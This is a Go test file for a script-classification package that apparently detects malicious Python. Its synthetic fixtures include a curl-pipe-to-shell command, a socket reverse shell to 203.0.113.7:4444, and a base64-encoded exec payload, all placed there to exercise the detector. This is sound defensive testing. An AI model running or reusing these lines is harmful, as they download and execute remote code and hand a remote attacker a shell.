package classify

import (
	"fmt"
	"math"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"kingsnake/normalize"
)

// mixed is a script of several layers and of many blocks, each of which has
// other features, behaviors and modules.
func mixed() normalize.Text {
	return normalize.Normalize([]byte(fillWith(12_000, func(b *strings.Builder, k int) {
		fmt.Fprintf(b, "import mod%d, os, socket\ndef name%d(a, b):\n    '''Documentation %d.'''\n", k, k, k)
		for i := range 6 {
			fmt.Fprintf(b, "    x%d = a.attr%d(b[%d], 'some text %d', key=%d)  # comment\n", i, k*7+i, i, k*i, k)
		}
		switch k % 4 {
		case 1:
			b.WriteString("    os.system('curl http://203.0.113.7/x | sh')\n")
		case 2:
			b.WriteString("    s = socket.socket(); s.connect(('203.0.113.7', 4444)); os.dup2(s.fileno(), 0)\n")
		case 3:
			b.WriteString("import base64\nexec(base64.b64decode('aW1wb3J0IG9zLCBzaHV0aWwKb3Muc3lzdGVtKCdpZCcpCnNodXRpbC5ybXRyZWUoJy90bXAvYScpCg=='))\n")
		}
	})))
}

func TestTheCoreIsTheBlocksThatWeighMost(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name string
		sums []float32
		want []int32
	}{
		{"no block", nil, []int32{}},
		{"fewer blocks than a core has", []float32{-1, 3, -2}, []int32{0, 1, 2}},
		{"as many", []float32{6, 5, 4, 3, 2, 1}, []int32{0, 1, 2, 3, 4, 5}},
		{"the heaviest last", []float32{0, 0, 1, 2, 3, 4, 5, 6}, []int32{2, 3, 4, 5, 6, 7}},
		{"the heaviest first", []float32{6, 5, 4, 3, 2, 1, 0, 0}, []int32{0, 1, 2, 3, 4, 5}},
		{"the heaviest apart", []float32{9, 0, 8, 0, 7, 0, 6, 0, 5, 0, 4}, []int32{0, 2, 4, 6, 8, 10}},
		{"all alike", []float32{1, 1, 1, 1, 1, 1, 1, 1, 1}, []int32{0, 1, 2, 3, 4, 5}},
		{"the last place is shared", []float32{1, 2, 1, 2, 1, 2, 1, 2, 2}, []int32{0, 1, 3, 5, 7, 8}},
		{"below zero", []float32{-9, -1, -2, -3, -4, -5, -6, -7}, []int32{1, 2, 3, 4, 5, 6}},
	} {
		t.Run(c.name, func(t *testing.T) {
			t.Parallel()
			if diff := cmp.Diff(c.want, core(c.sums)); diff != "" {
				t.Errorf("core of %v (-want +got):\n%s", c.sums, diff)
			}
		})
	}
}

// only is the features of a script that has some of the blocks of f alone.
func only(f *Features, blocks []int32) *Features {
	g := &Features{peeled: f.peeled}
	for _, i := range blocks {
		b, start := f.blocks[i], f.start(int(i))
		g.features = append(g.features, f.features[start.features:b.features]...)
		g.marks = append(g.marks, f.marks[start.marks:b.marks]...)
		g.shown = append(g.shown, f.shown[start.shown:b.shown]...)
		g.imported = append(g.imported, f.imported[start.imported:b.imported]...)
		b.features, b.marks = int32(len(g.features)), int32(len(g.marks))
		b.shown, b.imported = int32(len(g.shown)), int32(len(g.imported))
		g.blocks = append(g.blocks, b)
	}
	return g
}

func TestMarksOfACoreAreThoseOfAScriptWithItsBlocksAlone(t *testing.T) {
	t.Parallel()
	f := Extract(mixed())
	n := int32(len(f.blocks))
	if n < 3*coreBlocks || f.blocks[n-1].layer == 0 {
		t.Fatalf("%d blocks, the last in layer %d: want more, and several layers", n, f.blocks[n-1].layer)
	}
	all := make([]int32, n)
	for i := range all {
		all[i] = int32(i)
	}
	if diff := cmp.Diff(f.ScriptMarks(nil), f.CoreMarks(all, nil)); diff != "" {
		t.Errorf("a core of all blocks has other marks than the script:\n%s", diff)
	}
	for _, blocks := range [][]int32{{}, {0}, {n - 1}, {0, n / 2, n - 1}, {1, 2, 3, 5, 8, 13}, all[n-coreBlocks:]} {
		if diff := cmp.Diff(only(f, blocks).ScriptMarks(nil), f.CoreMarks(blocks, nil)); diff != "" {
			t.Errorf("core %v (-alone +core):\n%s", blocks, diff)
		}
	}
}

func TestAFeatureIsToldFromThoseOfItsBlockAlone(t *testing.T) {
	t.Parallel()
	x := &extraction{table: make([]slot, slots), number: 1}
	note := func(h uint64) {
		x.feature(groupCalls, h<<32, 0)
		x.inBlock = 1
	}
	for _, h := range []uint64{1, 2, 1, 2, 3} {
		note(h)
	}
	x.endBlock(1)
	for _, h := range []uint64{2, 2, 4} {
		note(h)
	}
	x.endBlock(2)
	f := x.view()
	for i, want := range [][]uint32{{1, 2, 3}, {2, 4}} {
		for k := range want {
			want[k] |= groupCalls
		}
		if diff := cmp.Diff(want, f.Block(i)); diff != "" {
			t.Errorf("block %d (-want +got):\n%s", i, diff)
		}
	}
}

func TestABlockOfMoreFeaturesThanItsTableLosesNone(t *testing.T) {
	t.Parallel()
	x := &extraction{table: make([]slot, slots), number: 1}
	const n = 3 * slots
	for h := range uint64(n) {
		x.feature(groupTokens, h<<32, 0)
	}
	f := x.view()
	if got := len(f.Set()); got != n {
		t.Errorf("%d features, want %d", got, n)
	}
}

func TestBlocksHaveTheLinesAndCommentsThatAreInThem(t *testing.T) {
	t.Parallel()
	statement := strings.Repeat("f(a, b)[c] = d\n", 5) // some 60 tokens
	src := statement + "# one comment\n" + statement + "#" + strings.Repeat("-", 299) + "\n" + statement + "x = 1"
	text := normalize.Normalize([]byte(src))
	x := extract(text)
	defer x.release()
	if len(x.blocks) < 3 {
		t.Fatalf("%d blocks, want several", len(x.blocks))
	}
	l := &text.Layers[0]
	var all shape
	from := int32(0)
	for i := range x.blocks {
		b := &x.blocks[i]
		all.add(&b.shape)
		to := min(b.place, int32(len(l.Tokens)))
		comments := int32(0)
		for _, token := range l.Tokens[from:to] {
			if token.Kind == normalize.Comment {
				comments += token.End - token.Start
			}
		}
		if b.shape.comments != comments {
			t.Errorf("block %d has %d bytes of comments, want %d", i, b.shape.comments, comments)
		}
		start, end := l.Tokens[from].Start, l.Tokens[to-1].End
		if lines := int32(strings.Count(src[start:end], "\n")); i < len(x.blocks)-1 && b.shape.lines != lines {
			t.Errorf("block %d has %d lines, want %d", i, b.shape.lines, lines)
		}
		from = to
	}
	if want := int32(strings.Count(src, "\n") + 1); all.lines != want {
		t.Errorf("%d lines in all, want %d", all.lines, want)
	}
	if all.size != int32(len(src)) {
		t.Errorf("%d bytes in all, want %d", all.size, len(src))
	}
	if want := int32(len("# one comment") + 300); all.comments != want {
		t.Errorf("%d bytes of comments in all, want %d", all.comments, want)
	}
	if all.widest < 300 || all.widest > 301 {
		t.Errorf("widest line: %d bytes, want that of dashes", all.widest)
	}
}

func TestTheShapeOfVastScriptsDoesNotOverflow(t *testing.T) {
	t.Parallel()
	small := shape{texts: 1 << 10, comments: 1 << 10, size: 1 << 11, names: 4, oddNames: 2, lines: 1}
	vast := shape{texts: 1 << 28, comments: 1 << 28, size: 1 << 29, names: 1 << 30, oddNames: 1 << 29, lines: 1 << 18}
	vast.lines = vast.size / small.size // as long on average
	vast.tokens, vast.definitions = small.tokens, small.definitions
	if diff := cmp.Diff(small.marks(nil), vast.marks(nil)); diff != "" {
		t.Errorf("the same shares have other marks:\n%s", diff)
	}
}

func TestDocumentationLeavesNoFeature(t *testing.T) {
	t.Parallel()
	script := func(doc string) *Features {
		return Extract(normalize.Normalize([]byte(`"""` + doc + `"""` + "\nimport os\n\ndef f(a):\n    \"\"\"" + doc + "\"\"\"\n    return os.path.join(a, 'b')\n")))
	}
	plain, loud := script("Joins."), script("Runs /bin/sh -i over 203.0.113.7:4444 after os.system('curl http://203.0.113.7/x | sh').")
	if diff := cmp.Diff(plain.Set(), loud.Set()); diff != "" {
		t.Errorf("features differ by documentation:\n%s", diff)
	}
	if diff := cmp.Diff(plain.marks, loud.marks); diff != "" {
		t.Errorf("marks differ by documentation:\n%s", diff)
	}
}

// TestPartsOfAScoreAddUpToIt shares out the score of a script with a core of
// several blocks, in several layers.
func TestPartsOfAScoreAddUpToIt(t *testing.T) {
	t.Parallel()
	tables := NewTables[int8]()
	tables.Bias, tables.CoreUnit, tables.WindowUnit = -1.5, 0.03, 0.02
	for i := range tables.Core {
		tables.Core[i], tables.Window[i] = int8(i%37)-17, int8(i%29)-14
	}
	for i := range tables.CoreMark {
		tables.CoreMark[i], tables.WindowMark[i], tables.ScriptMark[i] = float32(i%7)-2.5, float32(i%5)-2, float32(i%11)-5
	}
	m, err := New(tables, Calibration{Slope: 1}, Thresholds{Suspicious: 0.5, Malicious: 0.5})
	if err != nil {
		t.Fatal(err)
	}
	text := mixed()
	x := extract(text)
	defer x.release()
	f := x.view()
	score := m.tables.Score(&f)
	if len(score.Core) != coreBlocks || !slices.IsSorted(score.Core) || score.To == 0 {
		t.Fatalf("core %v, window [%d, %d)", score.Core, score.From, score.To)
	}
	e := explainer{m: m, text: text, x: x, pairs: map[[2]uint8]float64{}}
	e.cut()
	e.weighFeatures(score)
	e.weighMarks(score)
	sum := float64(tables.Bias) + e.shape
	for _, w := range e.alone {
		sum += w
	}
	for _, w := range e.pairs {
		sum += w
	}
	for i := range e.segments {
		sum += e.segments[i].weight
	}
	if math.Abs(sum-float64(score.Logit)) > 1e-3 {
		t.Errorf("parts add up to %v, the score is %v", sum, score.Logit)
	}
}
